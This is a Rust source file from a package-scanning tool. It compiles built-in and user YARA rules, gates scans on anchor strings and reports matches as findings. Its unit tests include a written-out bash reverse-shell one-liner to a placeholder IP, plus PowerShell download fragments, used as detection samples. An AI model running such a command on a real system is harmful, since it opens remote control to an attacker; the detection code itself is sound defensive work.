//! DSCA811: a file of the package matches a YARA rule, one of dsca's built-in rules
//! (crates/dsca-rules/rules/*.yar, shipped in the binary) or one of the user's own
//! (`--rules DIR`).
//!
//! The rules are compiled once per process ([`YaraRules::builtin`]) or once per run
//! ([`YaraRules::with_user_rules`]); every file of a package is scanned once, by the
//! same worker threads that parse its JavaScript, each with its own scanner.

use super::anchor_gate::{AnchorGate, Literal};
use super::{CodeContext, reach_clause};
use crate::Analysis;
use dsca_model::YaraRuleInfo;
use dsca_model::{Category, Evidence, Finding, Location, Rule, Severity, Signal};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::Duration;

pub const RULE: Rule = Rule {
    id: "DSCA811",
    name: "yara-match",
    category: Category::Content,
    signal: Signal::Behaviour,
    severity: Severity::Medium,
    title: "Matches a YARA rule",
    problem: "A file of the package matches a YARA rule: a pattern of text or bytes that \
        its author ties to a malware family or technique. The rule's name, description \
        and severity say what it looks for; the evidence shows the strings it matched.",
    next_steps: "Read the matched file around the evidence and decide whether the code \
        does what the rule describes. A match of a built-in rule with critical severity \
        means the package carries code of a known stealer, worm or backdoor shape: do not \
        install it. A match in documentation only is reported at low severity.",
    severities: &[
        Severity::Info,
        Severity::Low,
        Severity::Medium,
        Severity::High,
        Severity::Critical,
    ],
    catches: "a file matches a built-in or user YARA rule; the severity is the YARA \
        rule's (`meta: severity`, default medium)",
};

/// dsca's own rules, one file per family of techniques.
const BUILTIN_SOURCES: &[(&str, &str)] = &[
    ("stealers.yar", include_str!("../../rules/stealers.yar")),
    (
        "exfiltration.yar",
        include_str!("../../rules/exfiltration.yar"),
    ),
    ("execution.yar", include_str!("../../rules/execution.yar")),
    (
        "obfuscation.yar",
        include_str!("../../rules/obfuscation.yar"),
    ),
];

/// The bytes YARA's `\s` matches.
const YARA_WHITESPACE: [&str; 6] = [" ", "\t", "\n", "\r", "\x0b", "\x0c"];

/// The `anchor` entries of a rule's metadata: literals one of which every match of the
/// rule holds (see the header of the built-in rule files).
fn anchors(rule: &yara_x::Rule<'_, '_>) -> Vec<Vec<u8>> {
    rule.metadata()
        .filter(|(key, _)| *key == "anchor")
        .filter_map(|(_, value)| match value {
            yara_x::MetaValue::String(text) => Some(text.as_bytes().to_vec()),
            yara_x::MetaValue::Bytes(bytes) => Some(bytes.to_vec()),
            _ => None,
        })
        .collect()
}

/// The gate of the built-in rules: one [`AnchorGate`] over every rule's anchors. A file
/// holding none of them cannot match a built-in rule and skips YARA's pattern search,
/// which costs about as much per byte as parsing; four bytes in five of the top
/// packages are in files without any anchor. The evaluation's reports are identical
/// with and without the gate.
fn builtin_gate(rules: &yara_x::Rules) -> AnchorGate {
    let mut literals: Vec<Literal> = Vec::new();
    for anchor in rules.iter().flat_map(|rule| anchors(&rule)) {
        let (text, word_start) = match anchor.strip_prefix(b"{b}") {
            Some(text) => (text.to_vec(), true),
            None => (anchor, false),
        };
        match find(&text, b"{ws}") {
            Some(_) => {
                literals.extend(YARA_WHITESPACE.iter().map(|space| {
                    Literal::new(replace(&text, b"{ws}", space.as_bytes()), word_start)
                }))
            }
            None => literals.push(Literal::new(text, word_start)),
        }
    }
    // The anchors are part of the binary and a test builds the gate: a failure is a bug
    // in dsca.
    AnchorGate::new(&literals)
        .unwrap_or_else(|err| panic!("the built-in YARA rules' anchors: {err}"))
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .position(|window| window == needle)
}

/// `text` with every `from` replaced by `to`.
fn replace(text: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = find(rest, from) {
        out.extend_from_slice(&rest[..at]);
        out.extend_from_slice(to);
        rest = &rest[at + from.len()..];
    }
    out.extend_from_slice(rest);
    out
}

/// Bytes of one file the rules see (the archive limits bound files already).
pub const MAX_SCANNED_FILE_BYTES: usize = 32 * 1024 * 1024;
/// A rule set that takes longer than this on one file gives up on that file.
const SCAN_TIMEOUT: Duration = Duration::from_secs(10);
/// Matches kept per pattern: evidence needs a few, not thousands.
const MAX_MATCHES_PER_PATTERN: usize = 8;
/// Matched strings shown per file, and files shown per rule.
const MAX_STRINGS_PER_FILE: usize = 4;
const MAX_FILES_PER_RULE: usize = 3;
/// User rule files larger than this are refused (a rule file is text a person wrote).
const MAX_RULE_FILE_BYTES: u64 = 16 * 1024 * 1024;
/// How many rule files `--rules DIR` may hold.
const MAX_RULE_FILES: usize = 10_000;

/// A compiled rule set: the built-in rules, plus the user's when asked for.
pub struct YaraRules {
    rules: yara_x::Rules,
    /// Files without any anchor skip the scan; `None` when the user's rules are in the
    /// set (their conditions are not read).
    gate: Option<AnchorGate>,
    /// The user's rule files, by namespace (`user0`, `user1`, ...).
    user_files: Vec<String>,
}

impl std::fmt::Debug for YaraRules {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("YaraRules")
            .field("rules", &self.rules.iter().len())
            .finish()
    }
}

/// A rule's metadata as dsca reads it: `description`, `severity` (default medium),
/// `category` (default content), and the rest as it is.
struct RuleMeta {
    description: Option<String>,
    severity: Severity,
    category: Category,
    extra: Vec<(String, String)>,
}

impl RuleMeta {
    fn read(metadata: yara_x::Metadata) -> RuleMeta {
        let mut meta = RuleMeta {
            description: None,
            severity: RULE.severity,
            category: RULE.category,
            extra: Vec::new(),
        };
        for (key, value) in metadata {
            let value = match value {
                yara_x::MetaValue::String(text) => text.to_string(),
                yara_x::MetaValue::Bytes(bytes) => String::from_utf8_lossy(bytes).into_owned(),
                yara_x::MetaValue::Integer(n) => n.to_string(),
                yara_x::MetaValue::Float(n) => n.to_string(),
                yara_x::MetaValue::Bool(b) => b.to_string(),
            };
            match key.to_ascii_lowercase().as_str() {
                "description" => meta.description = Some(one_line(&value)),
                "severity" => meta.severity = parse_severity(&value).unwrap_or(meta.severity),
                "category" => meta.category = parse_category(&value).unwrap_or(meta.category),
                // The gate's literals, not something a report shows.
                "anchor" => {}
                _ => meta.extra.push((key.to_string(), one_line(&value))),
            }
        }
        meta
    }
}

/// Why a rule set could not be built: one line naming the file and line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct YaraError(String);

impl std::fmt::Display for YaraError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for YaraError {}

impl YaraRules {
    /// dsca's built-in rules, compiled on first use and shared by the whole process.
    pub fn builtin() -> &'static YaraRules {
        static BUILTIN: OnceLock<YaraRules> = OnceLock::new();
        BUILTIN.get_or_init(|| {
            // The sources are part of the binary and a test compiles them: a failure here
            // is a bug in dsca, not in anything a user gave it.
            compile(&[]).unwrap_or_else(|err| panic!("dsca's built-in YARA rules: {err}"))
        })
    }

    /// The built-in rules plus every `.yar`/`.yara` file of `dir` (not recursive), each
    /// file in a namespace of its own so that rule names of different files cannot clash.
    pub fn with_user_rules(dir: &Path) -> Result<YaraRules, YaraError> {
        let entries = std::fs::read_dir(dir).map_err(|err| {
            YaraError(format!(
                "cannot read rule directory {}: {err}",
                dir.display()
            ))
        })?;
        let mut paths: Vec<PathBuf> = entries
            .filter_map(|entry| entry.ok().map(|e| e.path()))
            .filter(|path| {
                path.is_file()
                    && path.extension().and_then(|e| e.to_str()).is_some_and(|e| {
                        e.eq_ignore_ascii_case("yar") || e.eq_ignore_ascii_case("yara")
                    })
            })
            .collect();
        paths.sort();
        if paths.is_empty() {
            return Err(YaraError(format!(
                "no .yar or .yara files in {}",
                dir.display()
            )));
        }
        if paths.len() > MAX_RULE_FILES {
            return Err(YaraError(format!(
                "{} holds more than {MAX_RULE_FILES} rule files",
                dir.display()
            )));
        }
        let mut sources = Vec::with_capacity(paths.len());
        for path in paths {
            let text = read_rule_file(&path)?;
            sources.push((path.display().to_string(), text));
        }
        compile(&sources)
    }

    /// How many rules the set holds (built-in and the user's).
    pub fn len(&self) -> usize {
        self.rules.iter().len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Name, severity, category and description of every rule, in source order.
    pub fn describe(&self) -> Vec<YaraRuleInfo> {
        self.rules
            .iter()
            .map(|rule| {
                let meta = RuleMeta::read(rule.metadata());
                YaraRuleInfo {
                    name: rule.identifier().to_string(),
                    severity: meta.severity,
                    category: meta.category,
                    description: meta.description.unwrap_or_default(),
                }
            })
            .collect()
    }

    /// A scanner for one thread; it is reused for every file that thread scans.
    pub(crate) fn scanner(&self) -> FileScanner<'_> {
        let mut scanner = yara_x::Scanner::new(&self.rules);
        scanner
            .set_timeout(SCAN_TIMEOUT)
            .max_matches_per_pattern(MAX_MATCHES_PER_PATTERN)
            .max_scan_size(MAX_SCANNED_FILE_BYTES);
        FileScanner {
            scanner,
            gate: self.gate.as_ref(),
            user_files: &self.user_files,
        }
    }
}

fn read_rule_file(path: &Path) -> Result<String, YaraError> {
    use std::io::Read as _;
    let file = std::fs::File::open(path)
        .map_err(|err| YaraError(format!("{}: cannot open: {err}", path.display())))?;
    let mut bytes = Vec::new();
    file.take(MAX_RULE_FILE_BYTES + 1)
        .read_to_end(&mut bytes)
        .map_err(|err| YaraError(format!("{}: cannot read: {err}", path.display())))?;
    if bytes.len() as u64 > MAX_RULE_FILE_BYTES {
        return Err(YaraError(format!(
            "{}: larger than {} MiB, not a rule file",
            path.display(),
            MAX_RULE_FILE_BYTES / (1024 * 1024)
        )));
    }
    String::from_utf8(bytes).map_err(|err| {
        let line = 1 + err
            .as_bytes()
            .iter()
            .take(err.utf8_error().valid_up_to())
            .filter(|&&b| b == b'\n')
            .count();
        YaraError(format!("{}:{line}: not valid UTF-8", path.display()))
    })
}

/// Compile the built-in rules (namespace `dsca`) and the user's `(origin, text)` files.
fn compile(user_sources: &[(String, String)]) -> Result<YaraRules, YaraError> {
    let mut compiler = yara_x::Compiler::new();
    compiler.new_namespace("dsca");
    for (origin, text) in BUILTIN_SOURCES {
        add_source(&mut compiler, origin, text)?;
    }
    for (index, (origin, text)) in user_sources.iter().enumerate() {
        compiler.new_namespace(&format!("user{index}"));
        add_source(&mut compiler, origin, text)?;
    }
    let rules = compiler.build();
    Ok(YaraRules {
        gate: user_sources.is_empty().then(|| builtin_gate(&rules)),
        rules,
        user_files: user_sources
            .iter()
            .map(|(origin, _)| origin.clone())
            .collect(),
    })
}

fn add_source(compiler: &mut yara_x::Compiler, origin: &str, text: &str) -> Result<(), YaraError> {
    let source = yara_x::SourceCode::from(text).with_origin(origin);
    match compiler.add_source(source) {
        Ok(_) => Ok(()),
        Err(err) => {
            let label = err.labels().next();
            let line = label
                .as_ref()
                .map_or(1, |label| line_of(text.as_bytes(), label.span().start()));
            let detail = label
                .as_ref()
                .map(|label| label.text().trim().to_string())
                .filter(|text| !text.is_empty());
            let mut message = format!(
                "{origin}:{line}: YARA error {}: {}",
                err.code(),
                err.title()
            );
            if let Some(detail) = detail {
                message.push_str(": ");
                message.push_str(&detail);
            }
            Err(YaraError(one_line(&message)))
        }
    }
}

/// 1-based line of a byte offset.
fn line_of(bytes: &[u8], offset: usize) -> usize {
    1 + bytes.iter().take(offset).filter(|&&b| b == b'\n').count()
}

fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// One thread's scanner.
pub(crate) struct FileScanner<'r> {
    scanner: yara_x::Scanner<'r>,
    gate: Option<&'r AnchorGate>,
    user_files: &'r [String],
}

/// One YARA rule that matched one file.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct YaraHit {
    pub path: String,
    pub rule: String,
    /// `dsca` for the built-in rules, else the user's rule file.
    pub origin: String,
    pub description: Option<String>,
    pub severity: Severity,
    pub category: Category,
    pub extra_meta: Vec<(String, String)>,
    /// `(pattern, 1-based line, matched text)`, at most a few.
    pub strings: Vec<(String, u32, String)>,
}

impl FileScanner<'_> {
    /// The rules that match one file, or why YARA could not finish it (a timeout): the
    /// caller reports that gap rather than taking it for a clean file.
    pub(crate) fn scan(&mut self, path: &str, data: &[u8]) -> Result<Vec<YaraHit>, String> {
        let user_files = self.user_files;
        let origin = |namespace: &str| {
            namespace
                .strip_prefix("user")
                .and_then(|index| index.parse::<usize>().ok())
                .and_then(|index| user_files.get(index))
                .cloned()
                .unwrap_or_else(|| "built-in".to_string())
        };
        let scanned = &data[..data.len().min(MAX_SCANNED_FILE_BYTES)];
        if self.gate.is_some_and(|gate| !gate.is_match(scanned)) {
            return Ok(Vec::new());
        }
        let results = self.scanner.scan(data).map_err(|error| match error {
            yara_x::ScanError::Timeout => format!(
                "YARA stopped after {} s (timeout): its rules saw only part of this file",
                SCAN_TIMEOUT.as_secs()
            ),
            other => format!("YARA could not scan this file ({other})"),
        })?;
        Ok(results
            .matching_rules()
            .map(|rule| {
                let meta = RuleMeta::read(rule.metadata());
                let mut hit = YaraHit {
                    path: path.to_string(),
                    rule: rule.identifier().to_string(),
                    origin: origin(rule.namespace()),
                    description: meta.description,
                    severity: meta.severity,
                    category: meta.category,
                    extra_meta: meta.extra,
                    strings: Vec::new(),
                };
                // One string per group of patterns (`$token1`, `$token2`: `token`), so the
                // evidence shows each kind of signal the rule combined.
                let mut groups: Vec<&str> = Vec::new();
                for pattern in rule.patterns() {
                    if hit.strings.len() >= MAX_STRINGS_PER_FILE {
                        break;
                    }
                    let group = pattern
                        .identifier()
                        .trim_end_matches(|c: char| c.is_ascii_digit());
                    if groups.contains(&group) {
                        continue;
                    }
                    if let Some(found) = pattern.matches().next() {
                        groups.push(group);
                        let line = u32::try_from(line_of(scanned, found.range().start))
                            .unwrap_or(u32::MAX);
                        let text = String::from_utf8_lossy(found.data()).into_owned();
                        hit.strings
                            .push((pattern.identifier().to_string(), line, text));
                    }
                }
                hit
            })
            .collect::<Vec<_>>())
    }
}

/// The severities of `meta: severity = "..."`, also the common synonyms.
fn parse_severity(value: &str) -> Option<Severity> {
    match value.trim().to_ascii_lowercase().as_str() {
        "critical" | "malicious" => Some(Severity::Critical),
        "high" => Some(Severity::High),
        "medium" | "moderate" | "suspicious" => Some(Severity::Medium),
        "low" => Some(Severity::Low),
        "info" | "informational" | "none" => Some(Severity::Info),
        _ => None,
    }
}

fn parse_category(value: &str) -> Option<Category> {
    let wanted = value.trim().to_ascii_lowercase();
    [
        Category::InstallScripts,
        Category::Dependencies,
        Category::Naming,
        Category::Publishing,
        Category::Integrity,
        Category::Content,
        Category::Archive,
        Category::Network,
        Category::Execution,
        Category::Filesystem,
        Category::Recon,
        Category::Persistence,
        Category::Obfuscation,
    ]
    .into_iter()
    .find(|category| category.as_str() == wanted)
}

/// Text that documents rather than runs: a match there is reported, not weighed.
fn is_documentation(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    [".md", ".mdx", ".markdown", ".txt", ".rst", ".html", ".adoc"]
        .iter()
        .any(|ext| name.ends_with(ext))
        || name.starts_with("readme")
        || name.starts_with("changelog")
        || name.starts_with("license")
}

/// One finding per matching YARA rule, with the files and strings it matched.
pub(crate) fn check(code: &CodeContext, out: &mut Analysis) {
    let mut by_rule: Vec<(&str, &str, Vec<&YaraHit>)> = Vec::new();
    for hit in &code.yara {
        match by_rule
            .iter_mut()
            .find(|(origin, rule, _)| *origin == hit.origin && *rule == hit.rule)
        {
            Some((_, _, hits)) => hits.push(hit),
            None => by_rule.push((&hit.origin, &hit.rule, vec![hit])),
        }
    }
    for (_, _, mut hits) in by_rule {
        // Code first: a match in a README is not the package doing anything.
        hits.sort_by_key(|hit| {
            (
                is_documentation(&hit.path),
                code.reach(&hit.path) == super::Reach::Unknown,
            )
        });
        let Some(first) = hits.first() else { continue };
        let only_docs = hits.iter().all(|hit| is_documentation(&hit.path));
        let severity = if only_docs {
            first.severity.min(Severity::Low)
        } else {
            first.severity
        };
        let others = match hits.len() - 1 {
            0 => String::new(),
            1 => " and 1 other file".to_string(),
            n => format!(" and {n} other files"),
        };
        let what = first
            .description
            .as_deref()
            .map(|d| format!(": {d}"))
            .unwrap_or_default();
        let message = format!(
            "`{}`{}{} matches YARA rule `{}` ({}){what}",
            first.path,
            reach_clause(code, &first.path),
            others,
            first.rule,
            first.origin,
        );
        let mut finding = Finding::new(&RULE, message).with_severity(severity);
        finding.category = first.category;
        finding.title = match &first.description {
            Some(description) => format!("YARA {}: {description}", first.rule),
            None => format!("YARA {}", first.rule),
        };
        if !first.extra_meta.is_empty() {
            let meta: Vec<String> = first
                .extra_meta
                .iter()
                .map(|(key, value)| format!("{key}: {value}"))
                .collect();
            finding = finding.with_evidence(Evidence::new(format!(
                "rule `{}` ({}) {}",
                first.rule,
                first.origin,
                meta.join("; ")
            )));
        }
        for hit in hits.iter().take(MAX_FILES_PER_RULE) {
            for (pattern, line, text) in &hit.strings {
                finding = finding.with_evidence(
                    Evidence::new(format!("matches {pattern}"))
                        .at(Location::line(hit.path.as_str(), *line))
                        .with_snippet(text.as_str()),
                );
            }
        }
        out.findings.push(finding);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_rules_compile() {
        assert!(YaraRules::builtin().len() >= 10);
    }

    #[test]
    fn every_builtin_rule_has_anchors() {
        for rule in YaraRules::builtin().rules.iter() {
            let anchors = anchors(&rule);
            assert!(
                !anchors.is_empty() && anchors.iter().all(|anchor| anchor.len() >= 3),
                "{} needs `anchor` entries of 3 bytes or more in its metadata",
                rule.identifier()
            );
        }
    }

    #[test]
    fn the_gate_lets_through_anchors_in_any_case_and_any_whitespace() {
        let rules = YaraRules::builtin();
        let mut scanner = rules.scanner();
        let gate = scanner.gate.expect("the built-in rules have a gate");
        assert!(gate.is_match(b"x = 'IRM\thttps://x.example'"));
        assert!(gate.is_match(b"PowerShell.EXE -c"));
        assert!(!gate.is_match(b"function confirm(){ return '/bin/sh'; }"));
        // A reverse shell behind the gate is still found by YARA.
        let hits = scanner
            .scan("a.sh", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
            .unwrap();
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].rule, "dsca_reverse_shell_one_liner");
        // With the user's rules in the set there is no gate.
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("mine.yar"),
            "rule mine { strings: $a = \"zzz\" condition: $a }",
        )
        .unwrap();
        let user = YaraRules::with_user_rules(dir.path()).unwrap();
        assert!(user.scanner().gate.is_none());
        assert_eq!(user.scanner().scan("a.txt", b"zzz").unwrap().len(), 1);
    }

    #[test]
    fn compile_errors_name_file_and_line() {
        let source = "rule ok { condition: true }\n\nrule broken {\n  condition: $missing\n}\n";
        let err = compile(&[("mine.yar".to_string(), source.to_string())]).unwrap_err();
        let text = err.to_string();
        assert!(text.starts_with("mine.yar:4: "), "{text}");
        assert!(!text.contains('\n'), "{text}");
    }

    #[test]
    fn metadata_sets_severity_and_category() {
        assert_eq!(parse_severity(" High "), Some(Severity::High));
        assert_eq!(parse_severity("whatever"), None);
        assert_eq!(parse_category("network"), Some(Category::Network));
        assert_eq!(parse_category("nope"), None);
    }
}
